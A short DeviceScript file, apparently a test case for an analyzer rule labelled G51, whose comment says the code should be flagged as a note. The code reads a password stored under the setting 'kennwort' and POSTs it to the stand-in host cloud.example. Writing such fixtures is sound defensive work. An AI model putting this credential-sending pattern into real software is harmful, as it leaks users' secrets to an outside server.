// G51: sends a password whose setting has an innocent name; nobody has said that it is one, so that is a note.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

paired(async () => {
  const body = await readSetting("kennwort", "");
  const response = await fetch("https://cloud.example/g51", { method: "POST", body });
  await response.close();
});
